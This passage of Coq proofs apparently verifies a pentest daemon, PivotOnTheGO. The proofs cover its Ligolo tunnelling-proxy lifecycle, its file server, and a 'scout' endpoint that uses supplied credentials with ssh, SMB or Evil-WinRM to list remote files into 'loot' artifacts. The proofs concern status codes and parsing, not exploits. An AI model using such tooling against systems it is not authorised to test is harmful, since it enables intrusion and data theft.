         /\ handleFileStart r2 (snd (fst (handleFileStart r1 st w1))) w2
            = (respondError StatusConflict "file server already running",
               snd (fst (handleFileStart r1 st w1)), []))
  /\ (forall calls,
         let '(st, _, t) := run calls initial in
         count isStarted t = count isKill t + proxyHandles st
         /\ count isListening t = count isShutdown t + fileHandles st
         /\ proxyHandles st <= 1 /\ fileHandles st <= 1)
  /\ (forall r st w,
         Method r = "GET" ->
         handleStatus r st w
         = (respondJSON StatusOK
              (BoolMap [("proxy_running",
                         match proxyCmd st with Some _ => true | None => false end)]),
            st, [])
         /\ handleFileStatus r st w
            = (respondJSON StatusOK
                 (BoolMap [("file_server_running",
                            match fileSrv st with Some _ => true | None => false end)]),
               st, [])).
Proof.
  split; [exact handleStartProxy_conflict|].
  split; [exact handleFileStart_conflict|].
  split; [|split; [|split]].
  - intros r1 r2 st w1 w2 Hm Hok.
    pose proof (handleStartProxy_inv r1 st w1) as [_ H]. unfold proxyStarted in H.
    destruct (H Hok) as [Hn [c Hc]]. split; [exact Hn|].
    rewrite Hc. now apply handleStartProxy_conflict with (c := c).
  - intros r1 r2 st w1 w2 Hm Hok.
    pose proof (handleFileStart_inv r1 st w1) as [_ H]. unfold fileStarted in H.
    destruct (H Hok) as [Hn [s Hs]]. split; [exact Hn|].
    rewrite Hs. now apply handleFileStart_conflict with (s := s).
  - intros calls. pose proof (run_inv calls initial wellFormed_initial) as H.
    destruct (run calls initial) as [[st resps] t]. destruct H as [_ [B1 B2]].
    cbn in B1, B2. rewrite Nat.add_0_r in B1, B2.
    repeat split; try assumption.
    + unfold proxyHandles. destruct (proxyCmd st); lia.
    + unfold fileHandles. destruct (fileSrv st); lia.
  - intros r st w Hm. unfold handleStatus, handleFileStatus. rewrite Hm. split; reflexivity.
Qed.

(** Two Starts in a row on the idle daemon: one success, then the
    conflict. *)
Lemma C1_single_handle_witness :
  Status (fst (fst (handleStartProxy Examples.postRequest initial Examples.calm))) = StatusOK
  /\ handleStartProxy Examples.postRequest
       (snd (fst (handleStartProxy Examples.postRequest initial Examples.calm))) Examples.calm
     = (respondError StatusConflict "proxy already running",
        snd (fst (handleStartProxy Examples.postRequest initial Examples.calm)), []).
Proof.
  assert (H : Status (fst (fst (handleStartProxy Examples.postRequest initial Examples.calm)))
              = StatusOK) by (vm_compute; reflexivity).
  split; [exact H|].
  exact (proj2 (proj1 (proj2 (proj2 C1_single_handle))
                  Examples.postRequest Examples.postRequest initial Examples.calm Examples.calm
                  eq_refl H)).
Defined.

Example start_start_stop_stop :
  run [(ApiStartProxy, Examples.postRequest, Examples.calm);
       (ApiStartProxy, Examples.postRequest, Examples.calm);
       (ApiStatus, Examples.getRequest, Examples.calm);
       (ApiStopProxy, Examples.postRequest, Examples.calm);
       (ApiStopProxy, Examples.postRequest, Examples.calm);
       (ApiStatus, Examples.getRequest, Examples.calm)] initial
  = (initial,
     [respondJSON StatusOK (StrMap [("status", "started")]);
      respondError StatusConflict "proxy already running";
      respondJSON StatusOK (BoolMap [("proxy_running", true)]);
      respondJSON StatusOK (StrMap [("status", "stopped")]);
      respondJSON StatusOK (StrMap [("status", "not_running")]);
      respondJSON StatusOK (BoolMap [("proxy_running", false)])],
     snd (run [(ApiStartProxy, Examples.postRequest, Examples.calm);
               (ApiStopProxy, Examples.postRequest, Examples.calm)] initial)).
Proof. vm_compute. reflexivity. Qed.

(** The file server: a failed bind leaves no handle; a second start
    after a successful one is the conflict; stop releases the listener. *)
Example file_server_lifecycle :
  run [(ApiFileStart, Examples.postRequest,
        Examples.world (mkProc [] None) None None (Some Examples.addrInUse));
       (ApiFileStatus, Examples.getRequest, Examples.calm);
       (ApiFileStart, Examples.postRequest, Examples.calm);
       (ApiFileStart, Examples.postRequest, Examples.calm);
       (ApiFileStop, Examples.postRequest, Examples.calm);
       (ApiFileStop, Examples.postRequest, Examples.calm)] initial
  = (initial,
     [respondError StatusInternalServerError "failed to start file server";
      respondJSON StatusOK (BoolMap [("file_server_running", false)]);
      respondJSON StatusOK (StrMap [("status", "started")]);
      respondError StatusConflict "file server already running";
      respondJSON StatusOK (StrMap [("status", "stopped")]);
      respondJSON StatusOK (StrMap [("status", "not_running")])],
     snd (run [(ApiFileStart, Examples.postRequest,
                Examples.world (mkProc [] None) None None (Some Examples.addrInUse));
               (ApiFileStart, Examples.postRequest, Examples.calm);
               (ApiFileStop, Examples.postRequest, Examples.calm)] initial)).
Proof. vm_compute. reflexivity. Qed.

Lemma handleStopProxy_idle (r : Request) (st : State) (w : World) :
  Method r = "POST" -> proxyCmd st = None ->
  handleStopProxy r st w
  = (respondJSON StatusOK (StrMap [("status", "not_running")]), st, []).
Proof. intros Hm Hc. unfold handleStopProxy. now rewrite Hm, Hc. Qed.

Lemma handleFileStop_idle (r : Request) (st : State) (w : World) :
  Method r = "POST" -> fileSrv st = None ->
  handleFileStop r st w
  = (respondJSON StatusOK (StrMap [("status", "not_running")]), st, []).
Proof. intros Hm Hs. unfold handleFileStop. now rewrite Hm, Hs. Qed.

(** C2. Without a handle, Stop answers 200 with "not_running" and does
    nothing, for the proxy and for the file server. With a handle it
    answers 200 with "stopped" and clears the handle: for the proxy, in
    every state the daemon can reach, after killing the process and
    leaving its reaping to a background task; for the file server, after
    the shutdown of the server, whose failure is at most logged. A second
    Stop then finds no handle. *)
Theorem C2_stop_idempotent :
  (forall r st w,
      Method r = "POST" -> proxyCmd st = None ->
      handleStopProxy r st w
      = (respondJSON StatusOK (StrMap [("status", "not_running")]), st, []))
  /\ (forall r st w,
         Method r = "POST" -> fileSrv st = None ->
         handleFileStop r st w
         = (respondJSON StatusOK (StrMap [("status", "not_running")]), st, []))
  /\ (forall calls r w c,
         Method r = "POST" ->
         proxyCmd (fst (fst (run calls initial))) = Some c ->
         handleStopProxy r (fst (fst (run calls initial))) w
         = (respondJSON StatusOK (StrMap [("status", "stopped")]),
            mkState None (fileSrv (fst (fst (run calls initial)))),
            [EvKill c; EvWaitAsync c]))
  /\ (forall r st w s,
         Method r = "POST" -> fileSrv st = Some s ->
         exists log,
           handleFileStop r st w
           = (respondJSON StatusOK (StrMap [("status", "stopped")]),
              mkState (proxyCmd st) None,
              EvShutdown s :: log)
           /\ forallb isLog log = true)
  /\ (forall r r' st w w',
         Method r = "POST" -> Method r' = "POST" ->
         fst (fst (handleStopProxy r' (snd (fst (handleStopProxy r st w))) w'))
         = respondJSON StatusOK (StrMap [("status", "not_running")])
         /\ fst (fst (handleFileStop r' (snd (fst (handleFileStop r st w))) w'))
            = respondJSON StatusOK (StrMap [("status", "not_running")])).
Proof.
  split; [exact handleStopProxy_idle|]. split; [exact handleFileStop_idle|].
  split; [|split].
  - intros calls r w c Hm Hc.
    pose proof (run_inv calls initial wellFormed_initial) as H.
    destruct (run calls initial) as [[st resps] t]. cbn [fst] in *.
    destruct H as [W _]. unfold handleStopProxy. rewrite Hm, Hc.
    change (negb ("POST" =? "POST")) with false. cbv beta iota.
    unfold bind, emit, ret. now rewrite (W c Hc).
  - intros r st w s Hm Hs. unfold handleFileStop. rewrite Hm, Hs.
    change (negb ("POST" =? "POST")) with false.
    unfold bind, srv_Shutdown_, emit, ret. cbv beta iota.
    destruct (srv_Shutdown w s) as [e|]; [destruct (negb (isServerClosed e))|];
      eexists; split; reflexivity.
  - intros r r' st w w' Hm Hm'. split.
    + assert (E : proxyCmd (snd (fst (handleStopProxy r st w))) = None).
      { unfold handleStopProxy. rewrite Hm.
        change (negb ("POST" =? "POST")) with false. cbv beta iota.
        destruct (proxyCmd st) as [c|] eqn:Ec; [|exact Ec].
        unfold bind, emit, ret. destruct (Process c); reflexivity. }
      now rewrite (handleStopProxy_idle r' _ w' Hm' E).
    + assert (E : fileSrv (snd (fst (handleFileStop r st w))) = None).
      { unfold handleFileStop. rewrite Hm.
        change (negb ("POST" =? "POST")) with false. cbv beta iota.
        destruct (fileSrv st) as [s|] eqn:Es; [|exact Es].
        unfold bind, srv_Shutdown_, emit, ret. cbv beta iota.
        destruct (srv_Shutdown w s) as [e|]; [destruct (negb (isServerClosed e))|];
          reflexivity. }
      now rewrite (handleFileStop_idle r' _ w' Hm' E).
Qed.

(** Start, Stop, Stop on the idle daemon. *)
Lemma C2_stop_idempotent_witness :
  let started := fst (fst (run [(ApiStartProxy, Examples.postRequest, Examples.calm)] initial)) in
  let c := mkCmd "/opt/ligolo/proxy" ["-laddr"; "127.0.0.1:11601"; "-selfcert"] true in
  proxyCmd started = Some c
  /\ handleStopProxy Examples.postRequest started Examples.calm
     = (respondJSON StatusOK (StrMap [("status", "stopped")]),
        initial, [EvKill c; EvWaitAsync c])
  /\ handleStopProxy Examples.postRequest initial Examples.calm
     = (respondJSON StatusOK (StrMap [("status", "not_running")]), initial, []).
Proof.
  cbv zeta.
  assert (Hc : proxyCmd (fst (fst (run [(ApiStartProxy, Examples.postRequest, Examples.calm)] initial)))
               = Some (mkCmd "/opt/ligolo/proxy"
                             ["-laddr"; "127.0.0.1:11601"; "-selfcert"] true))
    by (vm_compute; reflexivity).
  split; [exact Hc|]. split.
  - rewrite (proj1 (proj2 (proj2 C2_stop_idempotent))
               [(ApiStartProxy, Examples.postRequest, Examples.calm)] Examples.postRequest Examples.calm _
               eq_refl Hc).
    vm_compute. reflexivity.
  - exact (proj1 C2_stop_idempotent Examples.postRequest initial Examples.calm eq_refl eq_refl).
Defined.

End Coordinator.

(** ** The scout endpoint *)

Section ScoutEndpoint.

Import Contract ui.

(** A failed run returns either the empty result or a result whose error
    field is the message of the error. *)
Lemma RunFSScout_error_carried (req : FSScoutRequest) (w : World)
      (res : core.FSScoutResult) (e : GoError) (t : list Event) :
  core.RunFSScout req w = (res, Some e, t) ->
  res = core.zeroResult \/ core.ResError res = Error e.
Proof.
  destruct (missingField req) eqn:M.
  - destruct (RunFSScout_missing req w M) as [e' R]. rewrite R.
    intros H. injection H as <- _ _. now left.
  - rewrite (RunFSScout_checked req w M).
    destruct (core.DefaultLootDir w) as [[lootDir [e0|]] t0].
    + intros H. injection H as <- _ _. now left.
    + cbv zeta. destruct (os_MkdirAll w _) as [e0|].
      * intros H. injection H as <- _ _. now left.
      * destruct (core.dispatch _ _ w) as [[e0|] t1]; intros H.
        -- injection H as <- <- _. now right.
        -- discriminate H.
Qed.

(** C5, counterexample. The [ssh] command of a complete request fails:
    the endpoint answers 400, not 500. The same when the command succeeds
    and the write of the artifact fails. *)
Lemma C5_counterexample :
  snd (fst (core.RunFSScout Examples.sshReq
              (Examples.withBody Examples.commandFails Examples.sshReq)))
  = Some (errors_New "ssh command failed: exit status 255")
  /\ fst (handleFSScout Examples.postRequest
            (Examples.withBody Examples.commandFails Examples.sshReq))
     = mkResponse 400
         (ScoutPayload
            (core.mkResult "/home/op/.local/share/PivotOnTheGO/loot/fs/10.0.0.5/2024-01-01_00-00-00_ssh_fast.txt"
                           "ssh" "fast" "10.0.0.5" "ssh command failed: exit status 255"))
  /\ snd (fst (core.RunFSScout Examples.sshReq
                 (Examples.withBody Examples.writeFails Examples.sshReq)))
     = Some Examples.diskFull
  /\ Status (fst (handleFSScout Examples.postRequest
                    (Examples.withBody Examples.writeFails Examples.sshReq)))
     = 400%Z.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** C5, as amended. The scout endpoint never answers 500. Whenever
    [RunFSScout] fails on the decoded request, be it at validation, for a
    protocol that is not implemented or not supported, by the backend
    command or by the write of the artifact, the answer is 400 with the
    Scout Result as its body and exactly the effects of the run; the result
    is the empty one or carries the message of the error in its error
    field. *)
Theorem C5_scout_failure_status (r : Request) (w : World) :
  Status (fst (handleFSScout r w)) <> StatusInternalServerError
  /\ forall req res e t,
       Method r = "POST" ->
       json_Decode_Request w (Body r) = (req, None) ->
       core.RunFSScout req w = (res, Some e, t) ->
       handleFSScout r w = (respondJSON StatusBadRequest (ScoutPayload res), t)
       /\ (res = core.zeroResult \/ core.ResError res = Error e).
Proof.
  split.
  - unfold handleFSScout.
    destruct (negb (Method r =? "POST")); [discriminate|].
    unfold bind, json_Decode_Request_, ret.
    destruct (json_Decode_Request w (Body r)) as [req [e|]]; [discriminate|].
    destruct (core.RunFSScout req w) as [[res [e|]] t]; discriminate.
  - intros req res e t Hm Hd Hr. split.
    + unfold handleFSScout. rewrite Hm.
      change (negb ("POST" =? "POST")) with false. cbv beta iota.
      unfold bind, json_Decode_Request_, ret. rewrite Hd, Hr.
      cbn [app]. now rewrite app_nil_r.
    + exact (RunFSScout_error_carried req w res e t Hr).
Qed.

Lemma C5_scout_failure_status_witness :
  handleFSScout Examples.postRequest
    (Examples.withBody Examples.writeFails Examples.sshReq)
  = (respondJSON StatusBadRequest
       (ScoutPayload
          (core.mkResult "/home/op/.local/share/PivotOnTheGO/loot/fs/10.0.0.5/2024-01-01_00-00-00_ssh_fast.txt"
                         "ssh" "fast" "10.0.0.5" "no space left on device")),
     snd (core.RunFSScout Examples.sshReq
            (Examples.withBody Examples.writeFails Examples.sshReq))).
Proof.
  refine (proj1 (proj2 (C5_scout_failure_status Examples.postRequest
                          (Examples.withBody Examples.writeFails Examples.sshReq))
                   Examples.sshReq _ Examples.diskFull _ eq_refl eq_refl _)).
  vm_compute. reflexivity.
Defined.

End ScoutEndpoint.

(** * Further properties of the sources *)

(** ** Bytes, lines and trimming *)

Section Lines.

Import Contract.

Lemma hasByte_app (c : ascii) (a b : string) :
  hasByte c (a ++ b) = hasByte c a || hasByte c b.
Proof.
  induction a as [|x a IH]; [reflexivity|].
  cbn [append hasByte]. now rewrite IH, orb_assoc.
Qed.

Lemma hasByte_app_false (c : ascii) (p s q : string) :
  hasByte c (p ++ s ++ q) = false -> hasByte c s = false.
Proof.
  rewrite !hasByte_app. intros H.
  apply orb_false_elim in H. destruct H as [_ H].
  apply orb_false_elim in H. now destruct H.
Qed.

Lemma Split_without_sep (s : string) (sep : ascii) :
  hasByte sep s = false -> strings.Split s sep = [s].
Proof.
  unfold strings.Split. induction s as [|c s IH]; [reflexivity|].
  cbn [hasByte strings.splitCons]. intros H.
  apply orb_false_elim in H. destruct H as [Hc Hs].
  specialize (IH Hs). destruct (strings.splitCons s sep) as [h t].
  rewrite Hc. now injection IH as -> ->.
Qed.

Lemma Split_pieces_without_sep (s : string) (sep : ascii) :
  Forall (fun e => hasByte sep e = false) (strings.Split s sep).
Proof.
  unfold strings.Split. induction s as [|c s IH]; cbn [strings.splitCons].
  - constructor; [reflexivity | constructor].
  - destruct (strings.splitCons s sep) as [h t].
    destruct (Ascii.eqb c sep) eqn:E.
    + constructor; [reflexivity | exact IH].
    + inversion IH; subst. constructor; [|assumption].
      cbn [hasByte]. now rewrite E.
Qed.

Lemma dropSpaces_fixed (width : string -> nat) (s : string) :
  width s = 0 -> strings.dropSpaces width 0 s = s.
Proof. destruct s as [|c s]; [reflexivity|]. intros H. cbn. now rewrite H. Qed.

(** A trimmed string is a piece of the string it was trimmed from. *)
Lemma TrimSpace_piece (s : string) : exists p q, s = p ++ strings.TrimSpace s ++ q.
Proof.
  unfold strings.TrimSpace, strings.TrimLeftSpace.
  destruct (dropSpaces_suffix strings.spaceWidth s 0) as [p Hp].
  destruct (TrimRightSpace_prefix (strings.dropSpaces strings.spaceWidth 0 s)) as [q Hq].
  exists p, q. now rewrite <- Hq.
Qed.

Lemma hasByte_TrimSpace (c : ascii) (s : string) :
  hasByte c s = false -> hasByte c (strings.TrimSpace s) = false.
Proof.
  intros H. destruct (TrimSpace_piece s) as (p & q & E).
  rewrite E in H. now apply hasByte_app_false in H.
Qed.

Lemma takeToken_prefix (s : string) : exists t, s = takeToken s ++ t.
Proof.
  induction s as [|c s [t IH]]; [now exists ""|].
  cbn [takeToken]. destruct (strings.spaceWidth (String c s)).
  - exists t. cbn [append]. congruence.
  - now exists (String c s).
Qed.

Lemma hasByte_firstToken (c : ascii) (l : string) :
  hasByte c l = false -> hasByte c (firstToken l) = false.
Proof.
  unfold firstToken, strings.TrimLeftSpace. intros H.
  destruct (dropSpaces_suffix strings.spaceWidth l 0) as [p Hp].
  destruct (takeToken_prefix (strings.dropSpaces strings.spaceWidth 0 l)) as [t Ht].
  rewrite Hp, Ht in H. now apply hasByte_app_false in H.
Qed.

(** Trimming twice is trimming once. *)
Lemma TrimSpace_idempotent (s : string) :
  strings.TrimSpace (strings.TrimSpace s) = strings.TrimSpace s.
Proof.
  destruct (TrimSpace_head s) as [E|E]; [now rewrite E|].
  unfold strings.TrimSpace at 1. rewrite (TrimLeftSpace_fixed _ E).
  unfold strings.TrimSpace, strings.TrimRightSpace.
  rewrite strings_rev_involutive.
  set (d := strings.dropSpaces strings.spaceWidthRev 0
              (strings.rev (strings.TrimLeftSpace s))).
  destruct (dropSpaces_stops strings.spaceWidthRev
              (strings.rev (strings.TrimLeftSpace s)) 0) as [F|F]; fold d in F.
  - now rewrite F.
  - now rewrite (dropSpaces_fixed _ _ F).
Qed.

Lemma prefix_nil (s : string) : prefix "" s = true.
Proof. destruct s; reflexivity. Qed.

Lemma render_lines_cons (l : string) (ls : list string) :
  render (map asLine (l :: ls)) = l ++ String LF (render (map asLine ls)).
Proof.
  cbn [map]. unfold render. rewrite concat_nil_cons. unfold asLine, nl.
  now rewrite append_assoc.
Qed.

(** Splitting an artifact at its line feeds gives back its lines and one
    empty piece after the last line feed. *)
Lemma Split_render_lines (ls : list string) :
  Forall (fun l => hasByte LF l = false) ls ->
  strings.Split (render (map asLine ls)) LF = (ls ++ [""])%list.
Proof.
  induction 1 as [|l ls Hl _ IH]; [reflexivity|].
  rewrite render_lines_cons, Split_app, IH, (Split_without_sep _ _ Hl). reflexivity.
Qed.

End Lines.

(** ** The output of the three backends *)

Section Artifacts.

Import Contract.

Lemma fold_genericLine (lines : list string) (buf : string) :
  fold_left core.genericLine lines buf
  = buf ++ render (map asLine (filter hasRecordPrefix (map strings.TrimSpace lines))).
Proof.
  revert buf; induction lines as [|l lines IH]; intros buf; cbn [fold_left map filter].
  - now rewrite append_nil_r.
  - rewrite IH. unfold core.genericLine, hasRecordPrefix.
    destruct (strings.TrimSpace l =? "") eqn:E.
    + apply String.eqb_eq in E. rewrite E. reflexivity.
    + destruct (strings.HasPrefix (strings.TrimSpace l) "FILE|"
                || strings.HasPrefix (strings.TrimSpace l) "DENIED|"); [|reflexivity].
      rewrite render_lines_cons. unfold nl. rewrite !append_assoc. reflexivity.
Qed.

Lemma genericArtifact_lines (raw : string) :
  core.genericArtifact raw = render (map asLine (genericLines raw)).
Proof. unfold core.genericArtifact. now rewrite fold_genericLine. Qed.

(** X1. [parseAndWriteFSOutputGeneric], the normaliser of the Evil-WinRM
    backend, writes in one [os.WriteFile] exactly the lines of the raw
    output that, once trimmed, start with [FILE|] or [DENIED|], each
    trimmed and followed by a line feed, in their order; every other line
    (banners, prompts, blank lines) is dropped. *)
Theorem generic_normalisation (outPath raw : string) (w : World) :
  core.parseAndWriteFSOutputGeneric outPath raw w
  = (os_WriteFile w outPath
       (render (map asLine
                    (filter hasRecordPrefix
                            (map strings.TrimSpace (strings.Split raw LF))))),
     [EvWriteFile outPath
        (render (map asLine
                     (filter hasRecordPrefix
                             (map strings.TrimSpace (strings.Split raw LF)))))]).
Proof.
  unfold core.parseAndWriteFSOutputGeneric, os_WriteFile_.
  now rewrite genericArtifact_lines.
Qed.

Example generic_normalisation_ex :
  core.genericArtifact
    ("Evil-WinRM shell v3.5" ++ nl ++ "  FILE|C:\Users\a\x.txt " ++ nl ++ nl
     ++ "*Evil-WinRM* PS C:\> " ++ nl ++ "DENIED|C:\Users\b" ++ nl ++ "FILE" ++ nl)
  = "FILE|C:\Users\a\x.txt" ++ nl ++ "DENIED|C:\Users\b" ++ nl.
Proof. reflexivity. Qed.

Lemma recordLine_FILE (x : string) :
  hasByte LF x = false -> recordLine ("FILE|" ++ x) = true.
Proof.
  intros H. unfold recordLine, hasRecordPrefix, strings.HasPrefix.
  cbn [append prefix]. repeat (destruct (ascii_dec _ _); [|congruence]).
  rewrite prefix_nil. cbn [orb andb hasByte]. rewrite H. reflexivity.
Qed.

Lemma recordLine_DENIED (x : string) :
  hasByte LF x = false -> recordLine ("DENIED|" ++ x) = true.
Proof.
  intros H. unfold recordLine, hasRecordPrefix, strings.HasPrefix.
  cbn [append prefix].
  destruct (ascii_dec "F" "D"); [discriminate|].
  repeat (destruct (ascii_dec _ _); [|congruence]).
  rewrite prefix_nil. cbn [orb andb hasByte]. rewrite H. reflexivity.
Qed.

Lemma sshRecords_lines (stdout stderr : string) :
  sshRecords stdout stderr = map asLine (sshLines stdout stderr).
Proof.
  unfold sshRecords, sshLines. rewrite map_app, !map_map.
  f_equal; apply map_ext; intros l; unfold fileRecord, deniedRecord, asLine;
    now rewrite append_assoc.
Qed.

Lemma smbRecord_line (line : string) :
  optList (smbRecord line) = map asLine (optList (smbLineOf line)).
Proof.
  unfold smbRecord, smbLineOf.
  destruct (strings.TrimSpace line =? ""); [reflexivity|].
  destruct (strings.Contains _ _); [reflexivity|].
  destruct ((firstToken _ =? ".") || (firstToken _ =? "..")); reflexivity.
Qed.

Lemma smbRecords_lines (raw : string) :
  smbRecords raw = map asLine (smbLines raw).
Proof.
  unfold smbRecords, smbLines.
  induction (strings.Split raw LF) as [|l ls IH]; [reflexivity|].
  cbn [flat_map]. now rewrite map_app, IH, smbRecord_line.
Qed.

Lemma backendArtifact_lines (b : Backend) (p : ProcResult) :
  backendArtifact b p = render (map asLine (backendLines b p)).
Proof.
  destruct b; cbn [backendArtifact backendLines].
  - now rewrite sshArtifact_records, sshRecords_lines.
  - now rewrite smbArtifact_records, smbRecords_lines.
  - apply genericArtifact_lines.
Qed.

Lemma Forall_map_filter {A B : Type} (P : A -> Prop) (Q : B -> Prop)
      (f : A -> B) (keep : A -> bool) (xs : list A) :
  (forall a, P a -> keep a = true -> Q (f a)) ->
  Forall P xs -> Forall Q (map f (filter keep xs)).
Proof.
  intros H. induction 1 as [|a xs Ha _ IH]; [constructor|].
  cbn [filter]. destruct (keep a) eqn:E; [|exact IH].
  constructor; [now apply H | exact IH].
Qed.

Lemma trimmed_pieces (s : string) :
  Forall (fun l => hasByte LF l = false) (map strings.TrimSpace (strings.Split s LF)).
Proof.
  pose proof (Split_pieces_without_sep s LF) as H.
  induction H as [|e es He _ IH]; constructor; [|exact IH].
  now apply hasByte_TrimSpace.
Qed.

Lemma sshLines_ok (stdout stderr : string) :
  Forall (fun l => recordLine l = true) (sshLines stdout stderr).
Proof.
  unfold sshLines. apply Forall_app. split.
  - apply (Forall_map_filter (fun l => hasByte LF l = false)); [|apply trimmed_pieces].
    intros a Ha _. now apply recordLine_FILE.
  - apply (Forall_map_filter (fun l => hasByte LF l = false));
      [|apply Split_pieces_without_sep].
    intros a Ha _. now apply recordLine_DENIED, hasByte_TrimSpace.
Qed.

Lemma smbLines_ok (raw : string) :
  Forall (fun l => recordLine l = true) (smbLines raw).
Proof.
  unfold smbLines. pose proof (Split_pieces_without_sep raw LF) as H.
  induction H as [|e es He _ IH]; [constructor|].
  cbn [flat_map]. apply Forall_app. split; [|exact IH].
  unfold smbLineOf. pose proof (hasByte_TrimSpace LF e He) as Ht.
  destruct (strings.TrimSpace e =? ""); [constructor|].
  destruct (strings.Contains _ _).
  - constructor; [now apply recordLine_DENIED | constructor].
  - destruct ((firstToken _ =? ".") || (firstToken _ =? "..")); [constructor|].
    constructor; [now apply recordLine_FILE, hasByte_firstToken | constructor].
Qed.

Lemma genericLines_ok (raw : string) :
  Forall (fun l => recordLine l = true) (genericLines raw).
Proof.
  unfold genericLines.
  pose proof (trimmed_pieces raw) as H.
  induction H as [|e es He _ IH]; [constructor|].
  cbn [filter]. destruct (hasRecordPrefix e) eqn:E; [|exact IH].
  constructor; [|exact IH]. unfold recordLine. now rewrite E, He.
Qed.

Lemma backendLines_ok (b : Backend) (p : ProcResult) :
  Forall (fun l => recordLine l = true) (backendLines b p).
Proof.
  destruct b; cbn [backendLines];
    [apply sshLines_ok | apply smbLines_ok | apply genericLines_ok].
Qed.

Lemma recordLine_no_LF (ls : list string) :
  Forall (fun l => recordLine l = true) ls -> Forall (fun l => hasByte LF l = false) ls.
Proof.
  apply Forall_impl. intros l H. unfold recordLine in H.
  apply andb_true_iff in H. destruct H as [_ H]. now apply negb_true_iff in H.
Qed.

(** X2. Whatever the external command printed, the artifact of each of
    the three backends is line-oriented: it is a sequence of lines, each
    ended by a line feed, each starting with [FILE|] or [DENIED|] and with
    no line feed inside; split at its line feeds it gives back exactly
    those lines, followed by the empty piece after the last line feed.
    There is no header and no trailing data. *)
Theorem artifact_line_format (b : Backend) (p : ProcResult) :
  backendArtifact b p = render (map asLine (backendLines b p))
  /\ forallb recordLine (backendLines b p) = true
  /\ strings.Split (backendArtifact b p) LF = (backendLines b p ++ [""])%list.
Proof.
  pose proof (backendLines_ok b p) as H.
  split; [apply backendArtifact_lines|]. split.
  - apply forallb_forall. intros l Hl.
    rewrite Forall_forall in H. now apply H.
  - rewrite backendArtifact_lines. apply Split_render_lines.
    now apply recordLine_no_LF.
Qed.

(** X3. The Evil-WinRM normaliser returns an artifact it produced
    unchanged: normalising is idempotent. *)
Theorem generic_normalisation_idempotent (raw : string) :
  core.genericArtifact (core.genericArtifact raw) = core.genericArtifact raw.
Proof.
  rewrite !genericArtifact_lines.
  set (ls := genericLines raw).
  assert (Hno : Forall (fun l => hasByte LF l = false) ls)
    by (apply recordLine_no_LF, genericLines_ok).
  unfold genericLines at 1. rewrite (Split_render_lines ls Hno).
  rewrite map_app, filter_app. cbn [map filter]. rewrite app_nil_r.
  f_equal. f_equal.
  assert (H : Forall (fun l => strings.TrimSpace l = l /\ hasRecordPrefix l = true) ls).
  { unfold ls, genericLines.
    induction (strings.Split raw LF) as [|e es IH]; [constructor|].
    cbn [map filter]. destruct (hasRecordPrefix (strings.TrimSpace e)) eqn:E; [|exact IH].
    constructor; [|exact IH]. split; [apply TrimSpace_idempotent | exact E]. }
  clearbody ls. clear Hno.
  induction H as [|l ls [Ht Hk] _ IH]; [reflexivity|].
  cbn [map filter]. rewrite Ht, Hk, IH. reflexivity.
Qed.

Lemma hasByte_ReplaceAll (s : string) (old : ascii) (new : string) :
  hasByte old new = false -> hasByte old (strings.ReplaceAll s old new) = false.
Proof.
  intros H. induction s as [|c s IH]; [reflexivity|].
  cbn [strings.ReplaceAll]. rewrite hasByte_app, IH, orb_false_r.
  destruct (Ascii.eqb c old) eqn:E; [exact H|]. cbn [hasByte]. now rewrite E.
Qed.

(** X4. The PowerShell walker handed to [evil-winrm] is always one line:
    the last of the ten arguments holds no line feed, whatever the start
    directory of the request contains; the arguments before it are the
    host, user name, password and the port, 5985 when the request gives
    none. *)
Theorem winrm_script_one_line (req : FSScoutRequest) :
  exists script,
    core.winrmArgs req
    = ["-i"; Host req; "-u"; Username req; "-p"; Password req;
       "-P"; itoa (portOr req 5985); "-c"; script]
    /\ hasByte LF script = false.
Proof.
  eexists. split; [reflexivity|]. now apply hasByte_ReplaceAll.
Qed.

End Artifacts.

(** ** One scout attempt, from request to result *)

Section Attempt.

Import Contract.

Lemma defaulted_values (req : FSScoutRequest) :
  Mode (defaulted req) = modeOrDefault req
  /\ Depth (defaulted req) = depthOrDefault req.
Proof.
  unfold defaulted, modeOrDefault, depthOrDefault.
  destruct (Depth req <=? 0)%Z; cbn [core.withDepth Mode Depth];
    destruct (Mode req =? "") eqn:E; cbn [core.withMode Mode Depth]; auto.
Qed.

(** X5. Once a request has passed validation and its host directory
    exists, the result [RunFSScout] returns is fully populated whether the
    backend succeeds or fails: the artifact path is
    [<loot>/fs/<sanitized host>/<timestamp>_<protocol>_<mode>.txt]
    (cleaned), built from the loot root, the host, the clock reading, the
    protocol and the mode alone; protocol and host are echoed as given,
    the mode is "fast" when the request gave none, and the error field is
    the message of the returned error, empty exactly when there is
    none. *)
Theorem scout_result_populated (req : FSScoutRequest) (w : World)
        (lootDir : string) (t0 : list Event) :
  missingField req = false ->
  core.DefaultLootDir w = (lootDir, None, t0) ->
  os_MkdirAll w (filepath.Join [lootDir; "fs"; core.sanitizeHost (Host req)]) = None ->
  core.OutputFile (fst (fst (core.RunFSScout req w)))
  = filepath.Join
      [filepath.Join [lootDir; "fs"; core.sanitizeHost (Host req)];
       time_Now_Format w core.tsLayout ++ "_" ++ Protocol req ++ "_"
       ++ modeOrDefault req ++ ".txt"]
  /\ core.ResProtocol (fst (fst (core.RunFSScout req w))) = Protocol req
  /\ core.ResMode (fst (fst (core.RunFSScout req w))) = modeOrDefault req
  /\ core.ResHost (fst (fst (core.RunFSScout req w))) = Host req
  /\ core.ResError (fst (fst (core.RunFSScout req w)))
     = match snd (fst (core.RunFSScout req w)) with
       | Some e => Error e
       | None => ""
       end.
Proof.
  intros M HL HM. rewrite (RunFSScout_checked req w M), HL. cbv zeta.
  unfold fsBaseOf. rewrite HM. unfold outPathOf, fsBaseOf.
  destruct (defaulted_values req) as [-> _].
  destruct (core.dispatch _ _ w) as [[e|] t1]; cbn; repeat split.
Qed.

Lemma scout_result_populated_witness :
  core.OutputFile (fst (fst (core.RunFSScout Examples.sshReq Examples.commandFails)))
  = "/home/op/.local/share/PivotOnTheGO/loot/fs/10.0.0.5/2024-01-01_00-00-00_ssh_fast.txt"
  /\ core.ResError (fst (fst (core.RunFSScout Examples.sshReq Examples.commandFails)))
     = "ssh command failed: exit status 255".
Proof.
  pose proof (scout_result_populated Examples.sshReq Examples.commandFails
                Examples.lootDir [EvStat "/home/op/.local/share/PivotOnTheGO"]
                eq_refl eq_refl eq_refl) as (H1 & _ & _ & _ & H5).
  split; [rewrite H1 | rewrite H5]; vm_compute; reflexivity.
Defined.

Lemma dispatch_backend (b : Backend) (req : FSScoutRequest) (outPath : string) (w : World) :
  Protocol req = protocolOf b ->
